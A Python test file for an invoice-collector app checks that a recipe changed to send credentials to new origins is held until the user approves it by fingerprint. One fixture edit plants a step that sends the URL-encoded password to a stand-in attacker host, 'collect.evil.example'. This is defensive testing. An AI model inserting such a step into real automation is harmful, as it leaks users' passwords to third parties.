"""A recipe that changes where an account's credentials go holds that account until the user
approves the new list: nothing is typed or sent meanwhile (the engine is never started). A
change that keeps the origins and the secret-handling steps needs no approval."""

from __future__ import annotations

import datetime as dt
import shutil
import threading

from backend import paths
from backend.core.clock import parse
from tests.helpers import assert_api_error, wait_for
from tests.server.conftest import RECIPE

EVIL = "https://collect.evil.example"


def edit_recipe(old: str, new: str) -> None:
    """The user's recipe file changes (a shared file dropped over it, an edit)."""
    path = paths.user_recipes_dir() / RECIPE.name
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def test_a_recipe_sending_the_login_elsewhere_waits_for_approval(make_api, runner, caplog):
    api = make_api(runner=runner)
    account = api.create()["account"]
    api.wait_idle()
    assert len(runner.requests) == 1
    recipe = account["recipe"]
    assert (recipe["local"], recipe["origins"], recipe["approval_needed"]) == (
        True, ["https://portal.example.invalid"], False)
    assert recipe["approved_origins"] == recipe["origins"]
    assert recipe["file"] == str(paths.user_recipes_dir() / RECIPE.name)

    edit_recipe('    urls: {portal: "https://portal.example.invalid"}\n',
                f'    urls: {{portal: "https://portal.example.invalid"}}\n    origins: ["{EVIL}"]\n')
    edit_recipe('      - click: "#submit"\n',
                f'      - open: "{EVIL}/c?{{{{ password | url }}}}"\n      - click: "#submit"\n')
    api.services.stop()
    api = make_api(runner=runner)  # the server starts again and reads the changed file

    held = api.account(account["id"])["recipe"]
    assert held["approval_needed"] is True
    assert held["origins"] == [EVIL, "https://portal.example.invalid"]
    assert held["approved_origins"] == ["https://portal.example.invalid"]
    job = api.post(f"/api/accounts/{account['id']}/sync").get_json()["job"]
    api.wait_idle()
    assert len(runner.requests) == 1  # the engine never ran: no password left the keyring
    done = api.job(job["id"])
    assert done["outcome"]["code"] == "RECIPE_CHANGED"
    assert EVIL in done["outcome"]["message"]
    assert "approuvez-la" in done["outcome"]["message_fr"]
    state = api.account(account["id"])
    assert (state["state"], state["next_run_at"]) == ("blocked", None)

    stale = api.post(f"/api/accounts/{account['id']}/approve-recipe", {"fingerprint": "0" * 64})
    assert_api_error(stale, 409, "RECIPE_CHANGED", "fingerprint")
    assert_api_error(api.post(f"/api/accounts/{account['id']}/approve-recipe", {}), 400, field="fingerprint")
    release = threading.Event()
    runner.before = lambda request: release.wait(30)  # the sync the approval starts waits here
    caplog.set_level("WARNING", logger="invoice_collector.approval")
    approved = api.post(f"/api/accounts/{account['id']}/approve-recipe", {"fingerprint": held["fingerprint"]})
    assert approved.status_code == 200
    wait_for(lambda: len(runner.requests) == 2, what="the sync started by the approval")
    due = parse(api.account(account["id"])["next_run_at"])  # due now, should that sync not have started
    assert abs(due - dt.datetime.now(dt.timezone.utc)) < dt.timedelta(minutes=1)
    release.set()
    assert [r.getMessage() for r in caplog.records if r.name == "invoice_collector.approval"] == [
        f"account {account['id']}: the user approved the recipe of {account['provider']} "
        f"({paths.user_recipes_dir() / RECIPE.name}): origins {EVIL}, https://portal.example.invalid"]
    answer = approved.get_json()["account"]
    assert answer["recipe"]["approval_needed"] is False
    assert answer["blocked"] is False  # released at once, whatever the sync it starts will say
    assert answer["recipe"]["approved_origins"] == [EVIL, "https://portal.example.invalid"]
    api.wait_idle()
    assert len(runner.requests) == 2  # the approval started one sync
    assert api.account(account["id"])["state"] == "ok"


def test_a_change_that_keeps_origins_and_secret_steps_needs_no_approval(make_api, runner):
    api = make_api(runner=runner)
    account = api.create()["account"]
    api.wait_idle()
    edit_recipe("    interval_hours: 24\n", "    interval_hours: 12\n")  # not about secrets
    api.services.stop()
    api = make_api(runner=runner)
    assert api.account(account["id"])["recipe"]["approval_needed"] is False
    assert api.post(f"/api/accounts/{account['id']}/sync").status_code == 202
    api.wait_idle()
    assert api.account(account["id"])["last_outcome"]["code"] == "OK"


def test_an_account_from_before_approvals(make_api, runner):
    """Its bundled recipe is the one it knew; a local recipe must be approved once."""
    api = make_api(runner=runner)
    local = api.create()["account"]
    bundled = api.create(provider="demo-energie", credentials={"login": "a@b.fr", "password": "x"})["account"]
    api.wait_idle()
    with api.services.store.transaction() as conn:
        conn.execute("UPDATE accounts SET approved_recipe = NULL, approved_origins = NULL")
    assert api.account(bundled["id"])["recipe"]["approval_needed"] is False
    assert api.account(local["id"])["recipe"]["approval_needed"] is True


def test_a_bundled_provider_replaced_by_a_local_file_is_flagged(make_api, runner):
    api = make_api(runner=runner)
    account = api.create(provider="demo-energie", credentials={"login": "a@b.fr", "password": "x"})["account"]
    api.wait_idle()
    bundled = api.account(account["id"])["recipe"]
    assert bundled == {  # a bundled recipe: no file of the user's to show, nothing to approve
        "local": False, "origins": ["http://127.0.0.1:47312"], "approved_origins": ["http://127.0.0.1:47312"],
        "approval_needed": False, "fingerprint": account["recipe"]["fingerprint"], "file": None, "problem": None}
    shutil.copyfile(paths.bundled_catalog(), paths.user_recipes_dir() / "zz-override.yaml")
    override = paths.user_recipes_dir() / "zz-override.yaml"
    text = override.read_text(encoding="utf-8")
    start = text.index("  - id: demo-energie")
    end = text.index("\n  - id:", start + 1)
    override.write_text("providers:\n" + text[start:end].replace(
        "    urls:", f'    origins: ["{EVIL}"]\n    urls:', 1) + "\n", encoding="utf-8")
    api.services.stop()
    api = make_api(runner=runner)
    recipe = api.account(account["id"])["recipe"]
    assert (recipe["local"], recipe["approval_needed"], recipe["file"]) == (True, True, str(override))
    assert EVIL in recipe["origins"]


def approve(api, account_id: int, body) -> object:
    return api.post(f"/api/accounts/{account_id}/approve-recipe", body)


def test_an_approval_needs_the_fingerprint_shown_and_says_so(make_api, runner):
    api = make_api(runner=runner)
    account = api.create()["account"]
    api.wait_idle()
    for body in ({}, {"fingerprint": ""}, {"fingerprint": None}, {"fingerprint": 123},
                 {"fingerprint": [account["recipe"]["fingerprint"]]}):
        error = assert_api_error(approve(api, account["id"], body), 400, field="fingerprint")
        assert (error["message_en"], error["message_fr"]) == (
            "required: the recipe's fingerprint shown with its origins",
            "obligatoire : l'empreinte de la recette montrée avec ses sites"), body
    stale = assert_api_error(approve(api, account["id"], {"fingerprint": "0" * 64}), 409, "RECIPE_CHANGED")
    assert (stale["message_en"], stale["message_fr"]) == (
        "the recipe changed again since it was shown: look at it again",
        "la recette a encore changé depuis son affichage : regardez-la à nouveau")
    assert stale["fields"]["fingerprint"] == "not the recipe's current fingerprint"
    french = api.post(f"/api/accounts/{account['id']}/approve-recipe", {"fingerprint": "0" * 64},
                      headers={"Accept-Language": "fr"}).get_json()["error"]
    assert french["fields"]["fingerprint"] == "ce n'est plus l'empreinte de la recette"
    missing = assert_api_error(approve(api, 99, {"fingerprint": "0" * 64}), 404)
    assert (missing["message_en"], missing["message_fr"]) == ("account 99 not found", "Compte 99 introuvable")
    assert len(runner.requests) == 1  # none of these started a sync


def test_an_approval_for_a_provider_gone_from_the_catalog_is_refused(make_api, runner):
    api = make_api(runner=runner)
    account = api.create()["account"]
    api.wait_idle()
    (paths.user_recipes_dir() / RECIPE.name).unlink()
    api.services.stop()
    api = make_api(runner=runner)
    provider = account["provider"]
    assert api.account(account["id"])["recipe"] == {  # nothing to approve, what was approved still shown
        "local": False, "origins": [], "approved_origins": ["https://portal.example.invalid"],
        "approval_needed": False, "fingerprint": None, "file": None, "problem": None}
    gone = assert_api_error(approve(api, account["id"], {"fingerprint": account["recipe"]["fingerprint"]}), 409)
    assert (gone["message_en"], gone["message_fr"]) == (
        f"the provider '{provider}' is no longer in the catalog", f"le fournisseur « {provider} » n'est plus au catalogue")


def test_approving_an_account_held_for_nothing_else_changes_nothing_else(make_api, runner):
    """An approval releases only what waited for it: an account blocked for its password stays
    blocked (no sync, no next run); the approved list is recorded all the same."""
    runner.outcome = "LOGIN_FAILED"
    api = make_api(runner=runner)
    account = api.create()["account"]
    api.wait_idle()
    before = api.account(account["id"])
    assert (before["state"], before["next_run_at"]) == ("blocked", None)
    with api.services.store.transaction() as conn:
        conn.execute("UPDATE accounts SET approved_origins = NULL WHERE id = ?", (account["id"],))
    answer = approve(api, account["id"], {"fingerprint": before["recipe"]["fingerprint"]})
    assert answer.status_code == 200
    api.wait_idle()
    after = api.account(account["id"])
    assert (after["state"], after["next_run_at"], after["last_outcome"]["code"]) == ("blocked", None, "LOGIN_FAILED")
    assert after["recipe"]["approved_origins"] == after["recipe"]["origins"] == ["https://portal.example.invalid"]
    assert len(runner.requests) == 1

